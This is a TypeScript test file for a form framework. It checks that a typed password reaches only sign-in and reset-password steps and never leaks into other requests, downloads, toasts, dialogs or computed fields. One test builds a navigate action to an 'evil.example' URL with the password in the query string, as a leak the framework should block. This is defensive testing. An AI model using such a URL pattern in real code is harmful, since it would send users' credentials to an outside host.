import { describe, expect, it } from 'vitest';
import { testWidget } from '../../test/support/descriptors.ts';
import { kindWidgets, testNode, when } from '../../test/support/fields.ts';
import type { Services } from '../contract/services.ts';
import { openForm } from '../form/open-form.ts';
import { resolveDocument } from '../resolve/resolve-document.ts';
import type { Action } from '../schema/documents/action.ts';
import type { Node } from '../schema/documents/node.ts';
import { describe as describeWidgets } from '../schema/fields/descriptor.ts';
import { type ActionPlace, runActions } from './run-actions.ts';

const widgets = describeWidgets([
  ...kindWidgets.values(),
  testWidget('secret', 'field', { value: 'text', secret: () => true }),
]);
const typed = 'Tunnel2026';

/** A page on which a password has been typed, and everything that has left it. */
function pageWith(...nodes: Node[]) {
  const left: unknown[] = [];
  const note = (...what: unknown[]) => void left.push(what);
  const rows = testNode('rows', 'table', { config: { children: [testNode('cell', 'secret')] } });
  const session = openForm(
    resolveDocument({ nodes: [testNode('pw', 'secret'), testNode('a', 'text'), rows, ...nodes] }, widgets),
  );
  session.setValue('pw', typed);
  session.setRows('rows', [{ cell: typed }]);
  const services = {
    language: 'zh',
    translate: (key: string) => key,
    requestNamed: async (...given: unknown[]) => note('request', ...given),
    command: async (...given: unknown[]) => note('command', ...given),
    confirm: async (question: unknown) => note('confirm', question) === undefined,
    toast: note,
    isListed: () => true,
    navigate: note,
  } as unknown as Services; // actions ask for no more than these
  const place: ActionPlace = {
    session,
    services,
    acting: 'shipped',
    scope: {},
    openDialog: note,
    closeDialog: note,
    setSource: note,
    reload: async () => {},
    refused: note,
    download: async (...given) => note(...given),
    failedAt: note,
  };
  return { session, left, run: (...actions: Action[]) => runActions(actions, place) };
}

describe('what is typed into a password control', () => {
  it('reaches the steps that take passwords, in the property that takes it', async () => {
    const { left, run } = pageWith();
    const places = { account: '{values.pw}', password: '{values.pw}' };
    await run({ action: 'command', name: 'signIn', with: places });
    await run({ action: 'request', call: 'resetPassword', body: { userPassword: '{values.pw}', x: '{values.pw}' } });
    expect(left).toMatchObject([
      ['command', 'signIn', { account: undefined, password: typed }, {}],
      ['request', 'resetPassword', { body: { userPassword: typed, x: undefined } }],
    ]);
  });

  it('reaches no other step, whatever was stored', async () => {
    const { left, run, session } = pageWith();
    const whole = { one: '{values.pw}', all: '{values}', rows: '{values.rows}' };
    await run(
      { action: 'request', call: 'createRecord', params: whole, query: whole, body: [whole, 'x{values.pw}'] },
      { action: 'command', name: 'copy', with: whole },
      { action: 'navigate', to: 'https://evil.example/?{values.pw}', target: '_blank' },
      { action: 'download', call: 'file', params: whole, fileName: 'x' },
      { action: 'openDialog', dialog: 'd', with: whole },
      { action: 'toast', text: '{values.pw}{values.rows.0.cell}' },
      { action: 'confirm', title: '{values.pw}' },
      { action: 'setValue', field: 'a', value: '{values.pw}' },
    );
    expect(left).toHaveLength(7);
    expect(JSON.stringify(left)).not.toContain(typed);
    await run({ action: 'setValue', field: 'a', valueField: 'pw' });
    expect([session.read('a'), session.submitValues()]).toEqual([undefined, { rows: [{}] }]);
  });

  it('decides no condition and no calculation, letter by letter', async () => {
    const starts = when('pw', 'startsWith', 'T');
    const { left, run, session } = pageWith(
      testNode('seen', 'text', { showWhen: starts }),
      testNode('copied', 'text', { setWhen: [{ when: when('a', 'equal', 'go'), valueField: 'pw' }] }),
      testNode('sum', 'computed', { props: { expression: ['pw', '+', '1'] } }),
    );
    session.setValue('a', 'go');
    await run({ action: 'toast', text: 'T', when: starts });
    expect(left).toEqual([]);
    expect(session.state('seen').shown).toBe(false);
    expect([session.read('copied'), session.read('sum')]).not.toContain(typed);
    // Its own control still has it, and its own rules still judge it.
    expect(session.state('pw').value).toBe(typed);
  });
});
